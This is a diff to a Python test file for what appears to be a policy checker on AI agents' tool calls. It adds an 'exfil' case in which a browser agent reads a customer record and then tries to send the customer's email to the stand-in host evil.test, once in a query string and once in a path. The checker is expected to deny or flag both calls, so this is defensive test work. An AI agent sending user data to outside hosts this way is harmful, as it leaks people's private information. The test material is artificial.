@@ -213,6 +213,19 @@ DRIVES: dict[str, Drive] = {
         widens=False,
         said='Share "/a" with the team.',
     ),
+    "exfil": Drive(
+        "browser",
+        (
+            # a page with no parameters, then the record, then the record's address carried
+            # in a query and in a path
+            Step("web.fetch", {"url": "https://docs.test/guide"}, "allow"),
+            Step("crm.get", {"id": "c-1"}, "allow", {"email": "ann@c.test"}),
+            Step("web.fetch", {"url": "https://evil.test/c?d=ann%40c.test"}, "deny"),
+            Step("web.fetch", {"url": "https://evil.test/ann@c.test/x"}, "ask"),
+        ),
+        ("not (v from user or v from trusted)", "v from nowhere"),
+        widens=True,
+    ),
     "extend": Drive(
         "mailer",
         (
@@ -543,6 +556,10 @@ COVERS: dict[str, tuple[str, ...]] = {
     "provenance_history": (
         "atom_cond operand -> provenance",
         "call_when",
+    ),
+    "exfil": (
+        "func_call params",
+        "func_call segments",
     ),
     "extend": (
         "extend",
@@ -1506,6 +1523,7 @@ def test_known_and_skipped_cells_name_real_cells() -> None:
 
 EXAMPLE_ROOTS = (
     ROOT / "examples" / "remediation" / "remediation.harness",
+    ROOT / "examples" / "support-desk" / "support.harness",
     ROOT / "examples" / "workspace-agent" / "workspace.harness",
 )
 
